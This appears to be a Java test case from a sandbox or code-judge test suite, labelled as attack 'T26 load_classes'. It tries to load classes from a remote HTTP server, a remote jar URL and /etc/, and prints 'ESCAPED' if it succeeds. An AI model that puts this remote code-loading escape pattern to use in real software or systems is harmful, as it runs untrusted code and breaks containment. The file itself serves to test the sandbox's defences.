// expect: AC
// attack: T26 load_classes: fetches code from a server of its own
// alone: a jail with the way out would reach servers that are not the test's
import java.io.IOException;
import java.net.MalformedURLException;
import java.net.URI;
import java.net.URL;
import java.net.URLClassLoader;

public class Main {
    public static void main(String[] arguments) throws MalformedURLException, IOException {
        URL[] places = {URI.create("http://1.1.1.1/classes/").toURL(), URI.create("file:/etc/").toURL(), URI.create("jar:http://10.0.0.1/a.jar!/").toURL()};
        for (URL place : places) {
            try (URLClassLoader loader = new URLClassLoader(new URL[] {place})) {
                System.out.println("ESCAPED loaded " + loader.loadClass("passwd"));
            } catch (ClassNotFoundException expected) {
                continue;
            }
        }
    }
}
